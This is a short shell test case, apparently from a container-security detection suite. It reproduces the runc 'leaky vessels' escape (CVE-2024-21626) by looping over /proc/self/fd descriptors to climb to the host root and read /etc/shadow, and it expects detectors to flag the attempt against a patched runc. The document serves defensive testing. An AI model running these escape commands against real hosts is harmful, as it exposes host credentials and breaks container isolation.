# category: container-escape
# technique: T1611
# art: no
# expect: proc-root-access sensitive-file-read
# desc: CVE-2024-21626 (runc "leaky vessels"): a process in the container looks for a directory descriptor of the host's cgroup filesystem leaked by the runtime (/proc/self/fd/7 and its neighbours) and climbs out of it to the host's root to read its shadow file, as an image WORKDIR of /proc/self/fd/7 would; this runc is patched, so no descriptor leaks and the climbs fail
ls -l /proc/$$/fd/
for fd in 3 4 5 6 7 8 9; do
	if cd -P "/proc/self/fd/$fd/../../../../.." 2>/dev/null; then
		echo "fd $fd leaks a directory: now in $(pwd)"
		cat etc/shadow 2>&1 | head -n 1
		cd /
	else
		echo "fd $fd: no leaked directory"
	fi
done
cat /proc/self/fd/7/../../../../../etc/shadow 2>&1 | head -n 1
